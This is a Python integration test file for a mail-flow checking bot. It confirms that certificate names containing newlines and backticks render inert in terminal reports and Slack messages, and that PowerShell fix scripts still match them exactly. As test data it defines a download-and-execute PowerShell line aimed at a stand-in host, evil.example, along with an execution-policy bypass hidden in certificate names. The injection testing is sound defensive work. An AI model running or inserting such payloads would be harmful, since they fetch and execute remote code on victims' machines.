"""Certificate names written to fool a reader: a newline that would start a fake line of the
report (or of a fix script), and backticks that would open a Slack code block. A loopback
server presents them; the terminal report (the real CLI) and the Slack messages (the real
renderer over a real probe) must show them inert, and the PowerShell literal must still be the
exact name. Exact finding ids."""

from __future__ import annotations

import datetime as dt
import json
import re
from pathlib import Path

from bot.check import run_check
from bot.core.domain import normalise_target
from bot.probe.engine import CheckRequest
from bot.probe.netpolicy import parse_allow_nets
from bot.probe.resolver import parse_nameserver
from bot.render import blocks
from tests.fakes.certs import CertFactory
from tests.fakes.dns_server import FakeDnsServer
from tests.fakes.smtp_servers import AiosmtpdServer, server_context
from tests.integration.conftest import Pki
from tests.integration.test_cli_check import mailflow
from tests.integration.test_cli_check_scenarios import check_json, finding, ids, net
from tests.unit.test_powershell import evaluate

PAYLOAD = "iwr https://evil.example/x | iex"


async def test_a_newline_in_a_certificate_never_starts_a_line_of_the_report(
    tmp_path: Path,
) -> None:
    evil = CertFactory().self_signed(
        "EXCH01\n        Set-ExecutionPolicy Bypass", ["mx.example.test", f"a\n  {PAYLOAD}"]
    )
    zone = {"mx.example.test": {"A": ["127.0.8.21"]}}
    async with (
        FakeDnsServer(zone) as dns,
        AiosmtpdServer(server_context(evil, tmp_path, "evil"), "127.0.8.21") as smtp,
    ):
        args = ["--host", "mx.example.test", *net(dns, smtp.port)]
        code, doc = await check_json(*args)
        text_code, text, _ = await mailflow("check", *args)
    assert (code, text_code) == (1, 1)
    assert ids(doc) == ["cert.self_signed"]
    assert f"a\n  {PAYLOAD}" in finding(doc, "cert.self_signed")["fields"]["sans"]  # JSON: exact
    assert PAYLOAD in text and "Set-ExecutionPolicy" in text
    for line in text.splitlines():
        assert not line.lstrip().startswith((PAYLOAD, "Set-ExecutionPolicy")), line
        if PAYLOAD in line:
            assert f"a\\x0a  {PAYLOAD}" in line
    assert "EXCH01\\x0a        Set-ExecutionPolicy Bypass" in text


async def test_backticks_in_a_name_stay_prose_in_slack_and_exact_in_the_script(
    pki: Pki, tmp_path: Path, ca_file: Path
) -> None:
    """The issuer of a leaf sent without its intermediate carries ``` : the fix selects the
    intermediate by that name (`-eq`), which must match it exactly."""
    issuing = pki.factory.intermediate(pki.root, "Issuing ```sh CA`", index=70)
    leaf = pki.factory.leaf(issuing, ["mx.example.test"], index=71)
    issuer = "CN=Issuing ```sh CA`, O=Mailflow Test, C=US"
    zone = {"mx.example.test": {"A": ["127.0.8.22"]}}
    context = server_context(leaf, tmp_path, "bare", include_chain=False)
    async with FakeDnsServer(zone) as dns, AiosmtpdServer(context, "127.0.8.22") as smtp:
        args = ["--host", "mx.example.test", *net(dns, smtp.port), "--ca-file", str(ca_file)]
        code, doc = await check_json(*args)
        _, text, _ = await mailflow("check", *args)
        request = CheckRequest(
            target=normalise_target("mx.example.test", host_mode=True), host_mode=True,
            port=smtp.port, nameservers=(parse_nameserver(dns.address),),
            allow_nets=parse_allow_nets(["127.0.8.22/32"]),
        )  # fmt: skip
        report = await run_check(request, ca_file=ca_file, now=dt.datetime.now(dt.UTC))
    assert code == 1
    assert ids(doc) == ["cert.chain_incomplete"]
    script = next(
        fix["powershell"]
        for fix in finding(doc, "cert.chain_incomplete")["fixes"]
        if fix["powershell"] and "-eq" in fix["powershell"]
    )
    literal = re.search(r"\$_\.Subject -eq (\(.*?\)|'.*?') \}", script)
    assert literal is not None and evaluate(literal.group(1)) == issuer
    assert "```" not in script
    assert script.splitlines()[2] in text  # the terminal prints the very same line

    messages = blocks.check_report_messages(
        "mx.example.test", report.evidence, report.findings, report.elapsed_ms,
        verdict=report.verdict, spec_value="{}", evidence_value="1",
    )  # fmt: skip
    sections = [b["text"]["text"] for m in messages for b in m.blocks if b.get("type") == "section"]
    fenced = [s for s in sections if "```\n" in s]
    prose = [s.split("```\n", 1)[0] for s in sections]
    assert any("Issuing ˋˋˋsh CAˋ" in s for s in prose)  # inert look-alikes in prose
    assert not any("```sh" in s for s in prose)
    code_text = "\n".join(fenced)
    assert literal.group(1).replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;") in (
        code_text
    )  # the literal in the Slack code block is byte for byte the one we built
    assert "\u200b" not in code_text.split("$_.Subject -eq", 1)[1].split("}", 1)[0]
    assert json.dumps([m.as_kwargs() for m in messages])  # serialisable as sent
